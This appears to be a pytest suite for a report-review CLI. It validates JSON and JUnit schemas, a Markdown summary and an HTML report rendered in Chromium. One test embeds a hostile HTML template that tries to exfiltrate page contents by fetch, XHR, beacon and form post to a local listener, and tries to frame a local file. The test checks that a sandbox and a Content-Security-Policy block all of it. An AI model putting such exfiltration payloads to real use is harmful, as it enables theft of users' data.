"""`alertkit review` as a team would run it in CI: one step reworded (long enough to push an SMS that shows it past its two parts), every
output written, each read by the tool that would read it: the HTML report in Chromium from file://, the JSON by
jsonschema against docs/review.schema.json, the JUnit file by lxml against docs/junit.xsd, the Markdown summary by
its size."""
import base64
import io
import json
import os
import pathlib
import re
import shutil
import socket
import subprocess
import tempfile
import threading
import time

import jsonschema
import pytest
from lxml import etree
from PIL import Image
from selenium.webdriver.common.by import By

from conftest import OUT, ROOT, STEP, alertkit

def test_exit_status_and_summary(review):
    folder, result = review
    assert result.returncode == 2, result.stderr  # a new limit finding fails by default: exit 2, findings
    assert "new limit finding sms.cut" in result.stdout
    assert "catalog en: matchTypes.IDEMAILADDR.steps[0].text" in result.stdout
    assert "review: fails on failures" in result.stderr


def test_json_matches_its_schema(review):
    folder, _ = review
    schema = json.loads((ROOT / "docs" / "review.schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    document = json.loads((folder / "review.json").read_text())
    jsonschema.Draft202012Validator(schema).validate(document)
    rows = {(row["format"], row["locale"]): row for row in document["rows"]}
    assert rows[("sms", "en")]["newFindings"][0]["rule"] == "sms.cut"
    # The catalog override is English; the SMS template, both locales'.
    assert all(row["changed"] == 0 for (fmt, locale), row in rows.items() if locale == "es" and fmt != "sms")
    assert rows[("sms", "es")]["changed"] > 0
    assert rows[("html", "en")]["clusters"][0]["source"] == "catalog en: matchTypes.IDEMAILADDR.steps[0].text"


def test_junit_matches_the_schema(review):
    folder, _ = review
    schema = etree.XMLSchema(etree.parse(str(ROOT / "docs" / "junit.xsd")))
    document = etree.parse(str(folder / "junit.xml"))
    schema.assertValid(document)
    cases = document.findall(".//testcase")
    assert len(cases) == 18  # 9 formats × 2 locales
    failed = [case.get("name") for case in cases if case.find("failure") is not None]
    assert failed == ["sms [en]", "sms [es]"]


def test_markdown_summary_fits_a_comment(review):
    folder, _ = review
    summary = (folder / "summary.md").read_text()
    assert len(summary) < 65000
    assert summary.startswith("## AlertKit review")
    assert "| `sms` | `en` |" in summary


def test_html_report_in_chromium(review, browser):
    folder, _ = review
    page = folder / "report" / "index.html"
    browser.get_log("browser")
    browser.get(page.as_uri())
    text = browser.find_element(By.TAG_NAME, "body").text
    assert "AlertKit review" in text
    clusters = browser.find_elements(By.CSS_SELECTOR, ".cluster")
    assert len(clusters) >= 7  # one per changed English format
    assert any("matchTypes.IDEMAILADDR.steps[0].text" in cluster.text for cluster in clusters)
    assert browser.find_elements(By.CSS_SELECTOR, "table.diff ins")
    # Chromium is installed here: the changed page and email have screenshots, before and after, loaded.
    images = browser.find_elements(By.CSS_SELECTOR, ".shots img")
    assert len(images) >= 16
    assert all(browser.execute_script("return arguments[0].naturalWidth", image) > 0 for image in images) \
        if browser.capabilities.get("javascriptEnabled") else True
    assert all(image.size["width"] > 0 for image in images)
    errors = [entry for entry in browser.get_log("browser") if entry["level"] == "SEVERE"]
    assert not errors, errors


# A side's HTML is hostile: a pull request's templates run in the report's browser. Its page template tries every
# way out this test knows: script (fetch, XHR, an image beacon, a form post), remote images and styles, a frame of a
# local file (a huge green block with a marker text), a frame from the listener, a refresh to the listener and one to
# the local file, a preconnect; it starts with a byte-order mark, comes with its own <head> and charset. The review
# must screenshot it with Chromium's sandbox (never --no-sandbox; as root, as an unprivileged user), loading a copy
# whose Content-Security-Policy comes before anything the side wrote: the listener hears nothing, no screenshot shows
# the local file's green, and each loaded copy starts with the policy.
HOSTILE_PAGE = """\ufeff<!DOCTYPE html>
<html lang="{{{{lang}}}}"><head><meta charset="utf-8">
<script>fetch("http://127.0.0.1:{port}/fetch?" + document.body);
var x = new XMLHttpRequest(); x.open("POST", "http://127.0.0.1:{port}/xhr"); x.send(document.documentElement.outerHTML);
new Image().src = "http://127.0.0.1:{port}/beacon";</script>
<link rel="stylesheet" href="http://127.0.0.1:{port}/style.css"><link rel="preconnect" href="http://127.0.0.1:{port}">
<meta http-equiv="refresh" content="1; url=http://127.0.0.1:{port}/refresh">
<META HTTP-EQUIV="Refresh" content="2; url={secret}">
<title>{{{{title}}}}</title><style>{{{{{{styles}}}}}}</style></head>
<body><img src="http://127.0.0.1:{port}/x.png" width="20" height="20">
<iframe src="{secret}" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0"></iframe>
<iframe src="http://127.0.0.1:{port}/frame"></iframe>
<form id="f" method="post" action="http://127.0.0.1:{port}/form"><input name="a" value="{{{{title}}}}"></form>
<script>document.getElementById("f").submit()</script>
{{{{{{alert}}}}}}</body></html>
"""


class Listener:
    """A TCP listener on 127.0.0.1 that counts every connection made to it, whatever is sent."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(64)
        self.port = self.server.getsockname()[1]
        self.connections = []
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            connection.settimeout(2)
            try:
                data = connection.recv(200)
            except OSError:
                data = b""
            self.connections.append(data)
            connection.close()

    def heard(self):
        """What the listener heard before now: a last connection of its own is accepted after every earlier one
        (the backlog is first in, first out), so once it is counted, nothing made before it is still waiting."""
        with socket.create_connection(("127.0.0.1", self.port)) as sentinel:
            sentinel.sendall(b"sentinel")
        deadline = time.monotonic() + 30
        while b"sentinel" not in self.connections and time.monotonic() < deadline:
            time.sleep(0.01)
        assert b"sentinel" in self.connections
        return [data for data in self.connections if data != b"sentinel"]

    def close(self):
        self.server.close()


@pytest.fixture
def hostile():
    """A folder every user can search (as root, Chromium runs as an unused user id, which must reach the wrapper; the
    run's TMPDIR may be private to root, as scripts/test.sh makes it, so the folder is in /tmp): the hostile side, a
    local file, a `chromium` on the PATH that logs how it was started and keeps a copy of the page it was given, then
    runs the real one."""
    real = os.environ.get("CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
    if not os.access(real, os.X_OK):
        pytest.skip("Chromium is not installed")
    folder = pathlib.Path(tempfile.mkdtemp(prefix="alertkit-hostile-", dir="/tmp"))
    listener = Listener()
    try:
        folder.chmod(0o755)
        secret = folder / "secret.html"
        secret.write_text('<div style="width:5000px;height:5000px;background:#00ff00">HOSTILE-LOCAL-FILE-MARKER</div>')
        secret.chmod(0o644)
        (folder / "after" / "page").mkdir(parents=True)
        (folder / "after" / "page" / "page.html.mustache").write_text(
            HOSTILE_PAGE.format(port=listener.port, secret=secret.as_uri()))
        copies = folder / "copies"
        copies.mkdir()
        copies.chmod(0o777)
        log = folder / "chromium.log"
        log.write_text("")
        log.chmod(0o666)
        (folder / "bin").mkdir()
        wrapper = folder / "bin" / "chromium"
        wrapper.write_text(f"""#!/bin/sh
printf 'uid=%s' "$(id -u)" >> '{log}'; for argument in "$@"; do printf ' %s' "$argument" >> '{log}'; done; echo >> '{log}'
for argument in "$@"; do page="$argument"; done
case "$page" in file://*) cp "${{page#file://}}" '{copies}/'"$$".html ;; esac
exec '{real}' "$@"
""")
        wrapper.chmod(0o755)
        yield folder, listener
    finally:
        listener.close()
        shutil.rmtree(folder, ignore_errors=True)


def test_hostile_side_runs_no_script_reaches_no_network_and_keeps_the_sandbox(hostile):
    folder, listener = hostile
    environment = dict(os.environ, ALERTKIT_CONFIG=str(OUT / "config.json"),
                       PATH=str(folder / "bin") + os.pathsep + os.environ.get("PATH", "/usr/bin:/bin"))
    result = subprocess.run(
        [alertkit(), "review", str(ROOT / "SampleData" / "email-alert.json"), "--after", str(folder / "after"),
         "--format", "html", "--locale", "en", "--report", str(folder / "report")],
        capture_output=True, text=True, env=environment, timeout=600)
    assert result.returncode in (0, 2), result.stderr
    assert "report written to" in result.stderr, result.stderr
    heard = listener.heard()
    requests = [data.split(b"\r\n")[0] for data in heard]
    assert heard == [], f"the side's page reached the network: {requests}"

    runs = [line for line in (folder / "chromium.log").read_text().splitlines() if line]
    assert runs, "Chromium was not started"
    for run in runs:
        assert "--no-sandbox" not in run.split(), run
        if os.geteuid() == 0:
            assert not run.startswith("uid=0 "), f"Chromium ran as root: {run}"
            assert not run.startswith("uid=65534 "), f"Chromium ran as nobody, whom other programs share: {run}"

    page = (folder / "report" / "index.html").read_text()
    assert "HOSTILE-LOCAL-FILE-MARKER" not in page
    shots = re.findall(r'src="data:image/png;base64,([^"]+)"', page)
    if not shots:  # left out: the report and the terminal must say why
        assert "No screenshots" in page and "sandbox" in page, page
        assert "sandbox" in result.stderr, result.stderr
        return
    for shot in shots:
        image = Image.open(io.BytesIO(base64.b64decode(shot))).convert("RGB")
        green = sum(count for count, colour in image.getcolors(1 << 24) if colour == (0, 255, 0))
        assert green == 0, f"a screenshot shows the local file ({green} green pixels)"

    copies = sorted((folder / "copies").glob("*.html"))
    assert copies, "the wrapper saw no page"
    policy = re.compile(r"""\A\s*(<!doctype[^>]*>)?\s*<meta charset="utf-8">"""
                        r"""<meta http-equiv="Content-Security-Policy" content="default-src 'none'; [^"]*">""", re.I)
    for copy in copies:
        text = copy.read_text(encoding="utf-8", errors="replace")
        assert policy.match(text), text[:300]
        assert not re.search(r"[\s/]http-equiv\s*=\s*['\"]?refresh", text, re.I), "a refresh is left in the loaded copy"
        assert not re.search(r"[\s/'\"]rel\s*=", text, re.I), "a link's rel (a preconnect reaches its host) is left"


def test_signal_while_screenshots_are_taken_removes_every_scratch_folder(hostile):
    """SIGTERM once Chromium's folder exists (the screenshots are being taken): the review's private folder and
    Chromium's go, and the review exits 128 + 15 as batch does."""
    folder, _ = hostile
    # Searchable by all and a short path, so Chromium's folder is made here too (else it goes to /tmp).
    temporary = pathlib.Path(tempfile.mkdtemp(prefix="akr-", dir="/tmp"))
    temporary.chmod(0o755)
    environment = dict(os.environ, ALERTKIT_CONFIG=str(OUT / "config.json"), TMPDIR=str(temporary))
    process = subprocess.Popen(
        [alertkit(), "review", str(ROOT / "SampleData" / "email-alert.json"), "--after", str(folder / "after"),
         "--format", "html", "--locale", "en", "--report", str(folder / "report")],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env=environment)
    try:
        deadline = time.monotonic() + 300
        while process.poll() is None and time.monotonic() < deadline:
            names = os.listdir(temporary)
            if any(name.startswith("alertkit-browser-") for name in names):
                break
            time.sleep(0.01)
        assert process.poll() is None, "the review ended before Chromium's folder appeared"
        assert [name for name in names if name.startswith("alertkit-review-scratch-")], names
        for name in names:
            assert (temporary / name).stat().st_mode & 0o777 == 0o700, name
        process.send_signal(15)
        _, errors = process.communicate(timeout=300)
        assert process.returncode == 128 + 15, errors
        assert "review: interrupted by SIGTERM" in errors, errors
        assert os.listdir(temporary) == []
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        shutil.rmtree(temporary, ignore_errors=True)
    assert not (folder / "report" / "index.html").exists()
